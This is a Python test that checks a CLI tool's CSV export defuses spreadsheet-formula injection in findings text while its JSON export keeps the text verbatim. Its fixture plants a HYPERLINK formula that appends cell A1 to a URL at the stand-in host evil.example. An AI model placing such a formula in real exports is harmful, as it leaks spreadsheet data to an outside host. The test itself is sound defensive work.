"""Text somebody else wrote never reaches a spreadsheet as a live formula: `--csv` on a read command prefixes a
quote to every text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return; `--json` keeps the text
exactly as the tool serves it."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from tests.projection.git_fixture import T0, Planned, message, trailer, write_history
from tests.support.installation import Installation

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
HISTORY = (Planned(T0, message("planted", [trailer("security", "HIGH", FORMULA),
                                           trailer("code", "LOW", "-1+2 looks like arithmetic"),
                                           trailer("code", "LOW", "plain")])),)


def test_csv_neutralises_a_finding_that_would_be_a_formula_and_json_keeps_it(
        module_installation: Installation, tmp_path: Path) -> None:
    root = tmp_path / "planted"
    write_history(root, HISTORY)
    module_installation.new_project_in_process(root, "planted")
    module_installation.cli_in_process("findings", "build", "--project", str(root))
    as_csv = module_installation.cli("findings", "list", "--project", str(root), "--csv", check=True).stdout
    texts = sorted(row["findingText"] for row in csv.DictReader(io.StringIO(as_csv)))
    assert texts == sorted(["'" + FORMULA, "'-1+2 looks like arithmetic", "plain"])
    as_json = module_installation.cli("findings", "list", "--project", str(root), "--json", check=True).stdout
    served = sorted(row["findingText"] for row in json.loads(as_json)["summary"]["findings"])
    assert served == sorted([FORMULA, "-1+2 looks like arithmetic", "plain"])
